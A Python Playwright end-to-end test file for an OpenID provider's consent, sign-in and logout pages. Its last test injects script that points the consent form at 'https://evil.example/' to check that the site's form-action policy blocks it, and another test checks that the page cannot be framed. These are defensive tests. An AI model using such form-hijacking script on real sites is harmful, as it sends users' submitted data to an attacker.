"""The pages for members in a real browser: without scripts, for everybody, and nowhere but to the website."""

from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.e2e.openid.conftest import Provider
from tests.helpers.axe import find_violations
from tests.helpers.cast import person
from tests.helpers.openid import authorization_query, new_pkce, query_of
from tests.helpers.pages import OVERFLOW
from tests.helpers.wallet import TestWallet

pytestmark = [pytest.mark.chain, pytest.mark.browser]
SCOPE = "openid holder_kind holder_since_year holder_account"


@pytest.fixture
def contexts(browser: Browser) -> Iterator[list[BrowserContext]]:
    opened: list[BrowserContext] = []
    yield opened
    for context in opened:
        context.close()


def open_page(
    browser: Browser,
    contexts: list[BrowserContext],
    provider: Provider,
    member: int | None,
    **options: object,
) -> Page:
    context = browser.new_context(**options)  # type: ignore[arg-type]
    contexts.append(context)
    if member:
        cookie = {"name": "__Host-lexiarch", "value": provider.sign_in(member), "url": "https://127.0.0.1/"}
        context.add_cookies([{**cookie, "secure": True, "httpOnly": True, "sameSite": "Lax"}])  # type: ignore[typeddict-item,list-item]
    return context.new_page()


def question(provider: Provider, **changes: str) -> str:
    query = authorization_query(
        new_pkce(), redirect_uri=f"{provider.told.url}/back", client_id="browser", **changes
    )
    return f"{provider.url}/openid/authorize?{urlencode(query)}"


def test_who_is_asked_signs_in_on_the_page_with_their_wallet_and_agrees(
    provider: Provider, browser: Browser, contexts: list[BrowserContext]
) -> None:
    page = open_page(browser, contexts, provider, None)
    TestWallet(person(3), provider.dao.node_url).install(page)
    page.goto(question(provider, scope=SCOPE))
    page.get_by_test_id("place-sign-in").click()
    page.get_by_test_id("allow").click()
    page.wait_for_url(f"{provider.told.url}/back?*")
    assert query_of(page.url)["code"]


def test_a_member_agrees_without_any_script_and_comes_back_with_a_code(
    provider: Provider, browser: Browser, contexts: list[BrowserContext]
) -> None:
    page = open_page(browser, contexts, provider, 3, java_script_enabled=False)
    page.goto(question(provider, scope=SCOPE, prompt="consent"))
    expect(page.get_by_role("heading", level=1)).to_have_text("The browser asks whether you are an iD holder")
    expect(page.get_by_test_id("tick-holder_kind")).to_be_checked()
    expect(page.get_by_test_id("tick-holder_account")).not_to_be_checked()
    page.get_by_test_id("allow").click()
    page.wait_for_url(f"{provider.told.url}/back?*")
    assert query_of(page.url)["code"]


def test_a_member_refuses(provider: Provider, browser: Browser, contexts: list[BrowserContext]) -> None:
    page = open_page(browser, contexts, provider, 3)
    page.goto(question(provider, scope=SCOPE, prompt="consent"))
    page.get_by_test_id("deny").click()
    page.wait_for_url(f"{provider.told.url}/back?*")
    assert query_of(page.url)["error"] == "access_denied"


def test_who_has_no_id_finds_the_way_out(
    provider: Provider, browser: Browser, contexts: list[BrowserContext]
) -> None:
    page = open_page(browser, contexts, provider, 20, java_script_enabled=False)
    page.goto(question(provider, scope="openid"))
    expect(page.get_by_test_id("no-id")).to_be_visible()
    page.get_by_test_id("way-out").click()
    page.wait_for_url(f"{provider.told.url}/back?*")
    assert query_of(page.url)["error"] == "access_denied"


@pytest.mark.parametrize(("member", "what"), [(None, "sign-in"), (20, "no-id"), (3, "consent-form")])
@pytest.mark.parametrize("look", [(320, "dark"), (1280, "light")])
def test_everybody_can_use_the_pages(
    provider: Provider,
    browser: Browser,
    contexts: list[BrowserContext],
    member: int | None,
    what: str,
    look: tuple[int, str],
) -> None:
    viewport = {"width": look[0], "height": 900}
    page = open_page(browser, contexts, provider, member, viewport=viewport, color_scheme=look[1])
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    page.goto(question(provider, scope=SCOPE, prompt="consent"))
    expect(page.get_by_test_id(what)).to_be_visible()
    assert find_violations(page) == []
    assert page.evaluate(OVERFLOW) <= 0
    if member:
        page.goto(f"{provider.url}/openid/logout")
        expect(page.get_by_test_id("leave-form")).to_be_visible()
        assert find_violations(page) == []
    assert complaints == []


def test_no_other_website_can_frame_the_question(
    provider: Provider, browser: Browser, contexts: list[BrowserContext]
) -> None:
    page = open_page(browser, contexts, provider, 3)
    address = question(provider, scope=SCOPE, prompt="consent")
    page.set_content(f'<iframe src="{address.replace("&", "&amp;")}"></iframe>')
    page.wait_for_timeout(1000)
    assert all(
        "consent" not in (frame.content() if frame.url.startswith("http") else "") for frame in page.frames
    )


def test_a_form_that_was_tampered_with_leads_to_no_other_place(
    provider: Provider, browser: Browser, contexts: list[BrowserContext]
) -> None:
    """The browser itself refuses: `form-action` names the website that asked, and us."""
    page = open_page(browser, contexts, provider, 3)
    page.goto(question(provider, scope=SCOPE, prompt="consent"))
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.evaluate(
        "{ const form = document.querySelector('form[data-testid=consent-form]');"
        " form.action = 'https://evil.example/'; form.requestSubmit(); }"
    )
    page.wait_for_timeout(300)
    assert page.url.startswith(provider.url)
    assert any("form-action" in text for text in said)
